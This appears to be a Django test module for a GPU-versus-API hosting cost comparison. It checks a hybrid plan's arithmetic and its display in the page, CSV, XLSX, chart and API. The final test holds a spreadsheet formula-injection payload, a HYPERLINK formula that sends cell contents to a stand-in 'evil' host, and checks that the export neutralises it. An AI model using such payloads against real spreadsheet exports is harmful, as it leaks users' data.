"""The hybrid plan in the comparison: its own row on the page, in the CSV, the XLSX and the API answer, its chart, and
the note when a part's capacity is not measured. Built through the services (the guide's worked example)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import openpyxl
from django.urls import reverse

from apps.comparison import charts, exports
from apps.comparison.selectors import comparison_for
from apps.evidence.services import candidate_figure_enter

D = Decimal
CENT = D("0.01")


def test_the_worked_example_gets_a_hybrid_of_the_reserved_base_and_the_api_overflow(platform_user, example):
    """Always on, 24-h windows: 730 ÷ 24 = 30.41666… windows. Peak 12 req/s = 43,200/h; 20,000,000 ÷ 30.41666… =
    657,534.25 per window; base (657,534.25 − 43,200) ÷ 23 = 26,710.18/h. B (H200, 9 req/s, 1 % retried) serves
    9 × 3,600 ÷ 1.01 = 32,079.21 accepted per GPU-hour for 3.50 × 730 = 2,555.00 a month: one base GPU holds every base
    hour; the peak hour's other 11,120.79 go to the API at 16,320 ÷ 20,000,000 = 0.000816 per accepted response
    (C's bill: 20.4M paid requests × 0.00080): 11,120.79 × 30.41666… = 338,257.43 responses, 276.02.
    A burst GPU of A (3.00/h) would serve that hour for 3.00 a day (91.25 a month) but brings A's 1,920.00 of storage
    and labor: unused. Total 2,555.00 + 276.02 + B's 120 + 1,800 + C's 150 + 180 = 5,081.02, 0.000254 per accepted
    response against B's 0.0003515."""
    comparison = comparison_for(platform_user, example.summary)
    option = comparison.hybrid
    assert option is not None and comparison.hybrid_problem == ""
    plan = option.plan
    assert [(part.part, part.id, part.used) for part in plan.parts] == [
        ("reserved", str(example.b.pk), True), ("on_demand", str(example.a.pk), False),
        ("api", str(example.c.pk), True)]
    assert (plan.base_gpus, plan.burst_gpus) == (1, 0)
    assert plan.api_outputs.quantize(CENT) == D("338257.43")
    assert plan.part("reserved").billed == D("2555.00")
    assert plan.part("api").billed.quantize(CENT) == D("276.02")
    assert (plan.storage_network, plan.platform_labor) == (D("270.00"), D("1980.00"))
    assert plan.total_cost.quantize(CENT) == D("5081.02")
    assert plan.total_cost < min(result.row.total_cost for result in comparison.rows)
    assert option.label == "B reserved H200 + C API route"
    assert option.unmeasured == []
    codes = [note.code for note in option.notes]
    assert "unused" in codes and "versus_cheapest" in codes and "unmeasured" not in codes
    # The hybrid is not a database candidate: the cheapest candidate stays B.
    assert comparison.cheapest.candidate.pk == example.b.pk


def test_a_mix_that_uses_an_unmeasured_part_says_so(platform_user, example):
    """B's capacity replaced by a person's estimate: the base is not measured, the row says which part."""
    candidate_figure_enter(actor=platform_user, candidate=example.b, metric="capacity_at_slo", value="9",
                           capacity_unit="requests_per_second", source="estimated",
                           estimate_reason="vendor's H200 figure")
    comparison = comparison_for(platform_user, example.summary)
    option = comparison.hybrid
    assert option.unmeasured == ["B reserved H200"]
    note = next(note for note in option.notes if note.code == "unmeasured")
    assert note.text == "uses an unmeasured part: B reserved H200 (capacity not measured by a benchmark)"
    assert any(item.kind == "estimated" and item.why == "vendor's H200 figure"
               for item in option.provenance["gpu_cost"])


def test_a_batch_workload_has_no_hybrid(platform_user, team):
    """Work sized by its volume runs only as long as it takes: there is no peak to mix parts for."""
    from apps.comparison.tests.builders import worked_example

    example = worked_example(team, platform_user, workload_type="batch_inference", operating_mode="scheduled_batch",
                             hours_per_day=D(8), days_per_month=D(20), arrival_rate_peak=None)
    comparison = comparison_for(platform_user, example.summary)
    assert comparison.demand is not None and comparison.demand.billed_by_use and len(comparison.rows) == 3
    assert comparison.hybrid is None
    assert charts.hybrid_hours(comparison) is None


def test_the_page_the_csv_the_xlsx_and_the_api_show_the_hybrid(client, platform_user, example):
    client.force_login(platform_user)
    pk = example.summary.pk
    page = client.get(reverse("comparison:comparison", args=[pk])).content.decode()
    assert 'id="candidate-hybrid"' in page and "B reserved H200 + C API route" in page
    assert "A on-demand H100 is not used: the mix is cheaper without it" in page
    assert 'id="figure-hybrid-hours"' in page and "hybrid-hours-data" in page
    assert "Which part of the cheapest mix serves each hour" in page

    data = client.get(reverse("comparison-api:comparison", args=[pk])).json()
    assert data["hybrid"]["id"] == "hybrid"
    assert data["hybrid"]["display"]["total_cost"] == "5081.02"
    assert [(part["part"], part["candidate_id"], part["used"]) for part in data["hybrid"]["parts"]] == [
        ("reserved", example.b.pk, True), ("on_demand", example.a.pk, False), ("api", example.c.pk, True)]
    assert data["hybrid"]["profile"]["shape"] == "two_level"
    assert data["cheapest_per_accepted_output"] == example.b.pk  # ids stay ints

    lines = list(csv.DictReader(io.StringIO(client.get(reverse("comparison:comparison-csv", args=[pk]))
                                            .content.decode())))
    hybrid_line = lines[-1]
    assert (hybrid_line["candidate_id"], hybrid_line["kind"], hybrid_line["commercial_model"]) == (
        "hybrid", "hybrid", "mix")
    assert D(hybrid_line["total_cost"]).quantize(CENT) == D("5081.02")
    assert {int(line["candidate_id"]) for line in lines[:-1]} == {example.a.pk, example.b.pk, example.c.pk}

    workbook = openpyxl.load_workbook(io.BytesIO(client.get(reverse("comparison:comparison-xlsx", args=[pk]))
                                                 .content))
    sheet = workbook["Hybrid plan"]
    values = {row[0]: row[1] for row in sheet.iter_rows(values_only=True) if row and row[0]}
    assert D(str(values["total_cost"])).quantize(CENT) == D("5081.02")


def test_the_hybrid_chart_stacks_the_base_burst_and_api_per_block(platform_user, example):
    """Two blocks (the peak hour, the 23 base hours); the base serves 32,079.21 of the peak hour's 43,200 and all of
    the base hours' 26,710.18, the API the peak hour's 11,120.79; the unused burst has no series."""
    comparison = comparison_for(platform_user, example.summary)
    figure = charts.hybrid_hours(comparison)
    names = [series["name"] for series in figure["data"]]
    assert names == ["Reserved base: B reserved H200", "API overflow: C API route"]
    base, api = figure["data"]
    assert base["x"] == [0.5, 12.5]  # block middles: 1 ÷ 2, 1 + 23 ÷ 2 and base["width"] == [1.0, 23.0]
    assert round(base["y"][0], 2) == 32079.21 and round(base["y"][1], 2) == 26710.18
    assert round(api["y"][0], 2) == 11120.79 and api["y"][1] == 0.0
    json.dumps(figure)  # plain JSON for the page


def test_the_hybrid_row_shows_in_another_language(client, platform_user, example):
    client.force_login(platform_user)
    response = client.get(reverse("comparison:comparison", args=[example.summary.pk]), HTTP_ACCEPT_LANGUAGE="fr")
    assert response.status_code == 200 and 'id="candidate-hybrid"' in response.content.decode()


def test_the_api_answer_documents_the_hybrid(example):
    from apps.comparison.api.serializers import ComparisonSerializer

    assert "hybrid" in ComparisonSerializer().fields
    assert exports.hybrid_data(None) is None


def test_a_formula_like_part_label_stays_text_in_the_hybrid_exports(client, team, platform_user):
    """The evil candidate (on demand, 3.20 for 6 req/s: the cheapest burst per unit of capacity) is a part of the mix:
    its label is written as text in the hybrid sheet, never a formula."""
    from apps.comparison.tests.builders import gpu_candidate, worked_example

    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    example = worked_example(team, platform_user)
    gpu_candidate(team, platform_user, example.summary, label=evil, price="3.20", capacity="6")
    client.force_login(platform_user)
    content = client.get(reverse("comparison:comparison-xlsx", args=[example.summary.pk])).content
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Hybrid plan"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + evil in [cell.value for cell in cells]
